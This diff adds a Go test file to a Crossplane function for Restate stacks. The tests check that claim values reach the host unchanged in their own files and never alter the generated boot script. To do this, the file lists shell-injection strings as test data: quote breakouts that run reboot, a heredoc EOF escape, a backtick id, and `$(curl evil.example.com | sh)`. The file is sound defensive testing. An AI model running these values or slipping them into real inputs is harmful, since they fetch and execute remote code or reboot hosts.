@@ -1,0 +1,113 @@
+package fn
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/restate-crossplane/function-restate-stack/apis/v1alpha1"
+)
+
+// hostile holds values that would break out of a shell script or heredoc
+// if they were spliced into one.
+var hostile = []string{
+	`"; reboot; echo "`,
+	`$(curl evil.example.com | sh)`,
+	"`id`",
+	"'single' \"double\"",
+	"${HOME}",
+	"\nEOF\nreboot\n",
+}
+
+// TestHostileValuesStayInert feeds hostile values to every claim field that
+// reaches the host and checks that each arrives byte for byte in its own
+// file, while the script that runs is the same as for harmless values.
+func TestHostileValuesStayInert(t *testing.T) {
+	baseline := hostOf(t, compose(t, newXR(), newPolicy())).Script
+	for _, v := range hostile {
+		t.Run(v, func(t *testing.T) {
+			xr := newXR(func(xr *v1alpha1.XRestateStack) {
+				s := xr.Spec.Environment.SelfHosted
+				s.Config.ClusterName = v
+				s.Config.RocksDBTotalMemorySize = v
+				s.Logs.GroupName = v
+				if !strings.ContainsAny(v, "\n") {
+					s.Config.Environment = map[string]string{"HOSTILE": v}
+				}
+			})
+			h := hostOf(t, compose(t, xr, newPolicy()))
+			if h.Script != baseline {
+				t.Errorf("the script changed with a claim value:\n%s", h.Script)
+			}
+			c := restateTOML(t, h)
+			want(t, c["cluster-name"], v)
+			want(t, c["rocksdb-total-memory-size"], v)
+			want(t, fileOnHost(t, h, "log-group"), v)
+			if !strings.ContainsAny(v, "\n") {
+				wantContains(t, "\n"+fileOnHost(t, h, "server.env"), "\nHOSTILE="+v+"\n")
+			}
+			// Overrides arrive whole, as given.
+			xr = newXR(func(xr *v1alpha1.XRestateStack) {
+				s := xr.Spec.Environment.SelfHosted
+				s.Config.Override = "cluster-name = 'x'\n" + v
+				s.TLS = v1alpha1.TLSSpec{Termination: v1alpha1.TLSSelfSigned, NginxConfigOverride: v}
+			})
+			h = hostOf(t, compose(t, xr, newPolicy()))
+			want(t, fileOnHost(t, h, "restate.toml"), "cluster-name = 'x'\n"+v)
+			want(t, fileOnHost(t, h, "nginx.conf"), v)
+			wantNotContains(t, h.Script, v)
+		})
+	}
+}
+
+func TestUserDataCompressedOnlyWhenNeeded(t *testing.T) {
+	h := hostOf(t, compose(t, newXR(), newPolicy()))
+	if h.Compressed {
+		t.Error("small user data was compressed")
+	}
+	big := newXR(func(xr *v1alpha1.XRestateStack) {
+		xr.Spec.Environment.SelfHosted.Config.Override = strings.Repeat("# a long, repetitive config comment\n", 400)
+	})
+	h = hostOf(t, compose(t, big, newPolicy()))
+	if !h.Compressed {
+		t.Error("user data over 16 KiB was not compressed")
+	}
+	want(t, fileOnHost(t, h, "restate.toml"), strings.Repeat("# a long, repetitive config comment\n", 400))
+}
+
+// TestRestateAcceptsConfig hands the rendered config to a real
+// restate-server (npm @restatedev/restate-server, installed by make test)
+// and checks the server reads back every value the claim set. Restate
+// ignores unknown keys, so reading the values back is what proves the keys.
+func TestRestateAcceptsConfig(t *testing.T) {
+	server := os.Getenv("RESTATE_SERVER")
+	if server == "" {
+		t.Skip("RESTATE_SERVER is not set; make test sets it")
+	}
+	xr := newXR(func(xr *v1alpha1.XRestateStack) {
+		xr.Spec.Environment.SelfHosted.Config = v1alpha1.RestateConfigSpec{ClusterName: "payments", BootstrapNumPartitions: 12, RocksDBTotalMemorySize: "1 GiB"}
+		xr.Spec.Environment.SelfHosted.Tracing.Mode = v1alpha1.TracingAWSXRay
+	})
+	h := hostOf(t, compose(t, xr, newPolicy()))
+	cfg := filepath.Join(t.TempDir(), "config.toml")
+	if err := os.WriteFile(cfg, []byte(fileOnHost(t, h, "restate.toml")), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	out, err := exec.Command(server, "--config-file", cfg, "--dump-config").CombinedOutput()
+	if err != nil {
+		t.Fatalf("restate-server refused the config: %v\n%s", err, out)
+	}
+	for _, line := range []string{
+		`cluster-name = "payments"`,
+		`default-num-partitions = 12`,
+		`rocksdb-total-memory-size = "1.0 GiB"`,
+		`tracing-endpoint = "http://adot-collector:4317"`,
+		`bind-address = "0.0.0.0:9070"`,
+		`bind-address = "0.0.0.0:8080"`,
+		`default-provider = "local"`,
+	} {
+		wantContains(t, string(out), "\n"+line+"\n")
+	}
+}
